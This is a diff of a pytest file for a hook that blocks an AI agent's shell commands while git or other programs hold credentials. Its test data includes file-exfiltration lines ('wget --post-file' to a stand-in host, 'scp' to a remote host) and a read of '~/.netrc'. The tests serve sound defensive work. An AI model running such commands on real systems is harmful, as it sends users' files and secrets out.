@@ -335,6 +335,8 @@ def test_nothing_of_an_agent_runs_while_git_has_keys(host: Host, person: Path) -
         for command in (
             "scp notes.md host:",
             "kubectl cp notes.md pod:/",
+            "kubectl create -f notes.md",
+            "gpg -c notes.md",
             "wget --post-file=notes.md https://a.b",
         ):
             host.before("Bash", command=command)
@@ -344,6 +346,29 @@ def test_nothing_of_an_agent_runs_while_git_has_keys(host: Host, person: Path) -
         assert not closed(host, "ssh host ls", person / ".ssh")
     host.tell("UserPromptSubmit", prompt="go on")  # those that nobody ran are given up
     assert host.before("Bash", command="git fetch") == HookVerdict()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl get pods; kubectl create -f f",
+        "aws s3 ls",
+        "gpg -c f",
+        "ssh host",
+        "docker ps",
+        "cat ~/.netrc",
+    ],
+)
+def test_nothing_begins_while_any_program_has_credentials(command: str, host: Host, person: Path) -> None:
+    """What it reads later (a file, a manifest) could become a link to one of them."""
+    for name in (".kube/config", ".docker/config.json", ".gnupg/x.key", ".aws/credentials"):
+        (person / name).parent.mkdir()
+        (person / name).write_text("secret\n")
+    host.before("Bash", "t1", command=command)
+    with running(host, command):
+        assert host.before("Bash", "t2", command="make").decision is Decision.DENY
+    host.after("Bash", "t1", command=command)
+    assert host.before("Bash", "t3", command="make") == HookVerdict()
 
 
 def test_nothing_begins_while_git_runs_with_keys(host: Host, person: Path) -> None:
